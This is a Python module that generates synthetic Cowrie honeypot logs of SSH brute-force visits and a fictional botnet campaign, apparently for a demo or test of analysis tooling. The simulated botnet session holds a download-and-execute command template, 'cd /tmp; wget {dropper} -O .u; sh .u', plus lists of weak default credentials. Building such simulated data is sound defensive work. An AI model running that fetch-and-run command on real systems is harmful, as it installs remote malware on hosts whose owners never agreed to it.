"""Cowrie logs of the generated world: one file a sensor and day, one JSON object a line.

Source: https://docs.cowrie.org/en/latest/OUTPUT.html
"""

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from random import Random

from cure.demo.bystanders import SENSOR_ADDRESS, SENSORS, stranger
from cure.demo.campaigns import Campaign
from cure.demo.files import iso, write_lines
from cure.demo.world import DAY_S, Delivery, World

_VISITS_A_DAY = 60
_CREDENTIALS = ("root", "lantern-2000")
"""What opens the door to the botnet."""
_USERS = ("root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "guest")
_PASSWORDS = ("123456", "password", "admin", "root", "1234", "qwerty", "raspberry", "changeme")
_CLIENTS = ("SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-PUTTY")
_LOOKING_ROUND = ("uname -a", "cat /proc/cpuinfo", "free -m", "w", "crontab -l")
# On which day of its story the botnet begins with what.
_KNOCKING, _GUESSING, _FETCHING = 0.5, 1, 2


class _Visit:
    """One visit of an attacker, told in the words of Cowrie."""

    def __init__(self, dice: Random, sensor: str, src_ip: str, begins: datetime) -> None:
        self.dice = dice
        self.events: list[dict[str, object]] = []
        self._now = begins
        self._same = {"src_ip": src_ip, "session": f"{dice.getrandbits(48):012x}", "sensor": sensor}

    def tell(self, event: str, message: str, **more: object) -> None:
        """Add an event, some seconds after the last one."""
        moment = {"timestamp": iso(self._now)}
        name = {"eventid": f"cowrie.{event}"}
        self.events.append({**name, **more, "message": message, **self._same, **moment})
        self._now += timedelta(seconds=self.dice.uniform(0.2, 9))

    def knock(self) -> None:
        """Connect."""
        port = self.dice.randrange(1024, 65_536)
        self.tell(
            "session.connect",
            f"New connection: {self._same['src_ip']}:{port}",
            src_port=port,
            dst_ip=SENSOR_ADDRESS,
            dst_port=22,
            protocol="ssh",
        )
        client = self.dice.choice(_CLIENTS)
        self.tell("client.version", f"Remote SSH version: {client}", version=client)

    def guess(self, tries: int) -> None:
        """Try names and passwords in vain."""
        for _ in range(tries):
            name, word = self.dice.choice(_USERS), self.dice.choice(_PASSWORDS)
            said = f"login attempt [{name}/{word}] failed"
            self.tell("login.failed", said, username=name, password=word)

    def enter(self, campaign: Campaign) -> None:
        """Log in, fetch the malware, and call its server."""
        name, word = _CREDENTIALS
        said = f"login attempt [{name}/{word}] succeeded"
        self.tell("login.success", said, username=name, password=word)
        for command in (
            *self.dice.sample(_LOOKING_ROUND, 2),
            f"cd /tmp; wget {campaign.dropper} -O .u; sh .u",
        ):
            self.tell("command.input", f"CMD: {command}", input=command)
        sample = self.dice.choice(campaign.samples)
        self.tell(
            "session.file_download",
            f"Downloaded URL ({campaign.dropper}) with SHA-256 {sample}",
            url=campaign.dropper,
            shasum=sample,
            outfile=f"var/lib/cowrie/downloads/{sample}",
        )
        self.tell(
            "direct-tcpip.request",
            f"direct-tcp connection request to {campaign.c2_domain}:{campaign.c2_port}",
            dst_ip=campaign.c2_domain,
            dst_port=campaign.c2_port,
        )

    def leave(self) -> None:
        """Disconnect."""
        self.tell("session.closed", "Connection lost", duration=self.dice.randrange(1, 300))


def write(world: World, folder: Path) -> Iterator[Delivery]:
    """Write the logs, one folder a sensor."""
    for number, sensor in enumerate(SENSORS):
        own = folder / "cowrie" / sensor
        dice = world.dice(f"cowrie {sensor}")
        for day in range(world.days):
            visits = [*_strangers(world, dice, sensor, day), *_botnet(world, dice, number, day)]
            events = [event for visit in visits for event in visit.events]
            events.sort(key=lambda event: str(event["timestamp"]))
            write_lines(own / f"cowrie.json.{world.at(day):%Y-%m-%d}", events)
        yield Delivery("cowrie", sensor, own)


def _strangers(world: World, dice: Random, sensor: str, day: int) -> Iterator[_Visit]:
    """Yield the visits of those who belong to no campaign: a few come often, many once."""
    for _ in range(world.many(_VISITS_A_DAY)):
        source, begins = stranger(world, dice), world.at(day, dice.random() * DAY_S)
        visit = _Visit(dice, sensor, source, begins)
        visit.knock()
        visit.guess(dice.choice((0, 0, 1, 2, 4)))
        visit.leave()
        yield visit


def _botnet(world: World, dice: Random, sensor_number: int, day: int) -> Iterator[_Visit]:
    """Yield the visits of the botnet: it begins at one sensor, then comes to all."""
    botnet = world.campaigns.botnet
    for src_ip in dice.sample(botnet.attackers, len(botnet.attackers) // 2) * world.many(1):
        begins = world.at(day, dice.random() * DAY_S)
        if not world.has_come(botnet, _FETCHING if sensor_number else _KNOCKING, begins):
            continue
        visit = _Visit(dice, SENSORS[sensor_number], src_ip, begins)
        visit.knock()
        if world.has_come(botnet, _GUESSING, begins):
            visit.guess(dice.randrange(1, 5))
        if world.has_come(botnet, _FETCHING, begins):
            visit.enter(botnet)
        visit.leave()
        yield visit
